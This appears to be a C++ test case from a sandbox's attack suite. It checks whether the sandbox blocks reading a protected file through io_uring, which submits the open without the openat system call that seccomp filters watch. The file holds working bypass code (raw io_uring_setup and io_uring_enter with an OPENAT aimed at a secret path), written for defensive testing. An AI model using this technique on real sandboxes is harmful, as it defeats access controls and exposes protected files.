// attack: io-uring
// class: indirect
// severity: critical
// models: naive
// trap: A ring of requests in shared memory: open, read and connect without their system calls.
// naive: Numbers 425 to 427 are unknown, so they pass.
// kernel: io_uring runs operations in the kernel on the submitter's behalf; neither seccomp nor
//   ptrace sees them (io_uring(7)).
// sealed: io_uring_setup is ENOSYS; libraries fall back.
// source: netblue30/firejail#7058; moby/moby#46762
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: none
#include <linux/io_uring.h>
#include "tests/support/attack.h"

namespace attack {
namespace {

// Opens `path` through a ring of one entry; the descriptor, or -errno.
int ring_open(const std::string& path) {
  io_uring_params params{};
  int ring = static_cast<int>(::syscall(SYS_io_uring_setup, 1, &params));
  if (ring < 0) return -errno;
  size_t sq_size = params.sq_off.array + params.sq_entries * sizeof(uint32_t);
  size_t cq_size = params.cq_off.cqes + params.cq_entries * sizeof(io_uring_cqe);
  size_t size = sq_size > cq_size ? sq_size : cq_size;
  auto* rings = static_cast<char*>(::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring,
                                          IORING_OFF_SQ_RING));
  auto* entries = static_cast<io_uring_sqe*>(
      ::mmap(nullptr, params.sq_entries * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED,
             ring, IORING_OFF_SQES));
  must(rings != MAP_FAILED && entries != MAP_FAILED, "mmap of the ring");
  entries[0] = io_uring_sqe{};
  entries[0].opcode = IORING_OP_OPENAT;
  entries[0].fd = AT_FDCWD;
  entries[0].addr = reinterpret_cast<uintptr_t>(path.c_str());
  entries[0].open_flags = O_RDONLY;
  *reinterpret_cast<uint32_t*>(rings + params.sq_off.array) = 0;
  auto* tail = reinterpret_cast<uint32_t*>(rings + params.sq_off.tail);
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (::syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) {
    return -errno;
  }
  return reinterpret_cast<io_uring_cqe*>(rings + params.cq_off.cqes)[0].res;
}

}  // namespace

void strike() {
  int fd = ring_open(secret());
  if (fd < 0) {
    errno = -fd;
    held("io_uring");
  }
  take(fd);
  held("read");
}

// A program with a fallback works: the errno is one it understands.
void twin() {
  int fd = ring_open(work("ok.dat"));
  must(fd >= 0 || fd == -ENOSYS || fd == -EPERM, "io_uring_setup");
  must(reads(work("ok.dat"), "harmless\n"), "the fallback");
  twin_ok();
}

}  // namespace attack
